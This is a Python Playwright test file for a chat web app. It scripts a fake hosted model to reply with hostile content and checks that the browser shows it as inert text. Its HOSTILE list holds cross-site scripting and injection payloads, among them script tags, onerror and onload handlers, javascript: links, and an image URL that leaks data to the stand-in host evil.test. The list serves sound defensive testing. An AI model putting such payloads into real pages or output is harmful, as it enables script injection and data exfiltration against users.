"""A hosted model that says hostile things: in the browser they are text and nothing else."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from tests import bedrock
from tests.browser.browser_chat import Chat
from tests.processes import serving
from tests.scripted_endpoint import ScriptedEndpoint, scripted_endpoint

pytestmark = pytest.mark.browser

ELSEWHERE = "https://evil.test"
HOSTILE = [
    "<script>document.title='taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "<iframe srcdoc=\"<script>parent.document.title='taken'</script>\"></iframe>",
    "<svg onload=\"document.title='taken'\"></svg>",
    "[press me](javascript:document.title='taken')",
    "[press me](data:text/html,<script>1</script>)",
    f"![swipes]({ELSEWHERE}/leak?swipes=12)",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><style>body{{display:none}}</style>",
    f"<form action={ELSEWHERE}><button autofocus>Start swiping</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
]


@pytest.fixture(scope="module")
def hosted() -> Iterator[ScriptedEndpoint]:
    """A Bedrock that says what a test scripts."""
    with scripted_endpoint() as endpoint:
        yield endpoint


@pytest.fixture(scope="module")
def hosted_server(
    tmp_path_factory: pytest.TempPathFactory, indexed_url: str, hosted: ScriptedEndpoint
) -> Iterator[str]:
    """The URL of the real server with a hosted model."""
    settings = {
        "DATABASE_URL": indexed_url,
        "LOCAL_USER_ID": "hosted",
        "ASSISTANT_MODEL": "bedrock_converse:anthropic.claude-3-5-sonnet-20240620-v1:0",
        "AWS_ENDPOINT_URL_BEDROCK_RUNTIME": hosted.url,
        "AWS_ACCESS_KEY_ID": "nobody",
        "AWS_SECRET_ACCESS_KEY": "nothing",
        "AWS_DEFAULT_REGION": "eu-central-1",
    }
    with serving(tmp_path_factory.mktemp("hosted"), **settings) as server:
        yield server.url


@pytest.fixture(scope="module")
def page(chromium: Browser, hosted_server: str) -> Iterator[Page]:
    context = chromium.new_context(reduced_motion="reduce")
    page = context.new_page()
    page.goto(hosted_server)
    page.get_by_role("button", name="Start swiping").wait_for()
    yield page
    context.close()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_a_model_says_is_inert(
    page: Page, hosted_server: str, hosted: ScriptedEndpoint, hostile: str
) -> None:
    asked: list[str] = []
    own = (hosted_server, hosted_server.replace("http", "ws", 1), "data:", "blob:")

    def note(request: Request) -> None:
        if not request.url.startswith(own):
            asked.append(request.url)

    end = f"That is all of {HOSTILE.index(hostile)}."
    title = page.title()
    page.on("requestfinished", note)
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    hosted.script.clear()
    hosted.script.append(bedrock.stream(bedrock.says("Before. ", hostile, f"\n\n{end}")))
    Chat(page).say("hello")
    expect(page.get_by_text(end)).to_be_visible()
    for link in page.get_by_text("press me", exact=True).all():
        link.click()
    assert asked == []
    assert page.title() == title
    assert page.url.startswith(hosted_server)
    assert (
        page.locator(
            ".step iframe, .step script, .step form, .step style, .step svg[onload]"
        ).count()
        == 0
    )
    assert page.locator("[href^='javascript:'], [href^='data:'], [onerror], [onload]").count() == 0
    expect(page.locator("#chat-input")).to_be_visible()
